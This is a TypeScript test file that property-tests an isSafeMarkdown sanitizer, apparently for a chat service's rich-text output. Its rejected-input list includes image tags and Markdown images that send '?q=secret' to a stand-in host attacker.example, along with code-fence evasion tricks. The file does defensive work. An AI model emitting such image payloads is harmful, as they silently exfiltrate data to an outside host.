import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { isSafeMarkdown } from "./rich-text.ts";

test("what could make the service fetch or show something of its own is no safe Markdown", () => {
  for (const text of [
    '<img src="https://attacker.example/?q=secret"/>',
    "![alt](https://attacker.example/?q=secret)",
    '<tg-button type="callback_data" data="x">Yes</tg-button>',
    "</b>",
    "<!-- -->",
    "&#60;img src=x>",
    "&lt;img&gt;",
    "```\ncode\n```\n<img src=x>",
    "```\n<img src=x>",
    "$$\n```\n$$\n<img src=x>\n```",
    "   ```\n<img src=x>\n```",
    "```a`b\n<img src=x>\n```",
    "~~~\n```\n~~~\n<img src=x>\n```\n```",
    "```\ncode\n   ```\n<img src=x>\n```",
    "   ```\n```\n<img src=x>\n```",
    "~~~ `\n~~~\n<img src=x>\n~~~",
    "- ```\n```\n<img src=x>\n```",
  ])
    assert.equal(isSafeMarkdown(text), false, text);
});

test("usual answers are safe Markdown, with code too", () => {
  for (const text of [
    "**Done.** See `src/a.ts`, and 3 < 4.",
    "| a | b |\n| --- | --- |\n| 1 | 2 |",
    "```ts\nif (a < 3 && b > 4) return [];\n```\nThat is all.",
    "[a link](https://example.org/)",
  ])
    assert.equal(isSafeMarkdown(text), true, text);
});

/** Lines that might be read as the begin or the end of code. */
const aroundCode = fc
  .array(fc.constantFrom("```", "~~~", " ", "\n", "`", "a", ">", "- "))
  .map((all) => all.join(""));

test("whatever surrounds a picture, code or not, it is never safe", () => {
  fc.assert(
    fc.property(aroundCode, aroundCode, (before, after) => {
      const text = `${before}<img src="https://a.example/x">${after}`;
      assert.equal(isSafeMarkdown(text), false);
    }),
  );
});
